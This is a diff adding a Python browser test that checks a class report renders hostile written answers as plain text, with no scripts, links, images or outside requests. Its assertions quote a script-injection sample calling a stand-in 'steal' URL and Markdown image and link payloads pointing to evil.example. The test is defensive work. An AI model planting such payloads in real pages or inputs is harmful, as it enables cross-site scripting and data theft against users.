@@ -1,0 +1,55 @@
+"""The class report's written answers (issue 21) in headless Chromium: hostile texts
+(markup, a script, a Markdown image, 1 MB of text) are shown as typed, run nothing and
+fetch nothing (the page is opened from a file; any other request is recorded and refused)."""
+
+from __future__ import annotations
+
+import sys
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).parents[1]))
+from test_classreport import write_written_class  # noqa: E402
+
+from normcourse import classtext  # noqa: E402
+from normcourse.cli import main  # noqa: E402
+
+
+def test_written_answers_render_inert_and_offline(lab_browser, tmp_path, monkeypatch):
+    monkeypatch.setattr(classtext, "EXAMPLES", 100)  # every text shown, hostile ones too
+    files = write_written_class(tmp_path)
+    out = tmp_path / "report.html"
+    assert main(["report", *files, "--out", str(out)]) == 0
+    context = lab_browser.browser.new_context()
+    outside, problems, dialogs = [], [], []
+    try:
+        page = context.new_page()
+
+        def route(r):
+            url = r.request.url
+            if url.startswith(("file:", "data:")):
+                r.continue_()
+            else:
+                outside.append(url)
+                r.abort()
+
+        page.route("**/*", route)
+        page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.goto(out.as_uri(), wait_until="load")
+        page.wait_for_timeout(300)
+        items = page.evaluate("() => Array.from(document.querySelectorAll('li'))"
+                              ".map(li => [li.innerText, li.children.length])")
+        counts = page.evaluate("() => [document.scripts.length, document.links.length, "
+                               "document.querySelectorAll('li img').length]")
+        text = page.inner_text("body")
+    finally:
+        context.close()
+    assert outside == [] and problems == [] and dialogs == []
+    assert counts == [0, 0, 0]
+    assert len(items) == 7 and all(n == 0 for _, n in items)  # text only, no element
+    assert "12 of 16 answered (75.0 %); median 23 words per answer." in text
+    assert any(t.startswith("<script>fetch('http://example.com/steal')</script>")
+               for t, _ in items)
+    assert any(t.startswith("![x](http://evil.example/x.png) [click](http://evil.example)")
+               for t, _ in items)
+    assert max(len(t) for t, _ in items) <= classtext.EXAMPLE_CAP
